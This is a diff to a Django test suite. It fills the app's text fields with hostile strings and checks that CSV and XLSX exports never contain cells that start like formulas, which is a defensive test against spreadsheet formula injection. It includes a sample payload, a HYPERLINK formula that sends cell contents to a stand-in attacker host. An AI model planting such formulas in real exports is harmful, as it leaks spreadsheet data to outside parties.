@@ -141,7 +141,7 @@ def our_models():
             yield from config.get_models()
 
 
-def make_hostile() -> None:
+def make_hostile(long: str = HOSTILE, short: str = SHORT, text: str = HOSTILE_TEXT) -> None:
     """Every text field a person types, in every row of our models, becomes hostile."""
     for model in our_models():
         values = {}
@@ -158,17 +158,19 @@ def make_hostile() -> None:
             if isinstance(f, models.URLField):
                 values[f.name] = JAVASCRIPT
             elif isinstance(f, models.TextField):
-                values[f.name] = HOSTILE_TEXT
-            elif f.max_length is None or f.max_length >= len(REFRESH):
-                values[f.name] = HOSTILE[: f.max_length]
-            elif f.max_length >= len(SHORT):
-                values[f.name] = SHORT
+                values[f.name] = text
+            elif f.max_length is None or f.max_length >= len(long):
+                values[f.name] = long
+            elif f.max_length >= len(REFRESH):
+                values[f.name] = long[: f.max_length]
+            elif f.max_length >= len(short):
+                values[f.name] = short
         if values:
             model._default_manager.update(**values)
     from contacts.models import Tag
 
     for tag in Tag.objects.all():  # unique: one hostile name each
-        tag.name = f"{HOSTILE[:40]}{tag.pk}"
+        tag.name = f"{long[:40]}{tag.pk}"
         tag.save(update_fields=["name"])
 
 
@@ -638,3 +640,33 @@ def test_only_plain_text_emails_turn_autoescape_off():
         if template.is_file() and "autoescape off" in template.read_text()
     ]
     assert all(name.endswith((".txt", "_email.html")) for name in off), off
+
+
+# A spreadsheet is a context too: a cell that starts like a formula runs when opened.
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
+
+
+def test_no_export_cell_starts_like_a_formula(hostile_world, client):
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    make_hostile(long=FORMULA, short="=1+1", text=FORMULA)
+    client.force_login(hostile_world)
+    exports = [u for u in page_urls({"crm", "admin"}) if u.endswith((".csv", ".xlsx"))]
+
+    cells = {}
+    for url in exports:
+        response = client.get(url)
+        assert response.status_code == 200, url
+        content = b"".join(response.streaming_content) if response.streaming else response.content
+        if url.endswith(".xlsx"):
+            sheet = load_workbook(io.BytesIO(content)).active
+            cells[url] = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+        else:
+            rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
+            cells[url] = [c for row in rows for c in row if c.startswith(("=", "+", "@"))]
+
+    assert {url: found for url, found in cells.items() if found} == {}
+    assert len(exports) >= 5
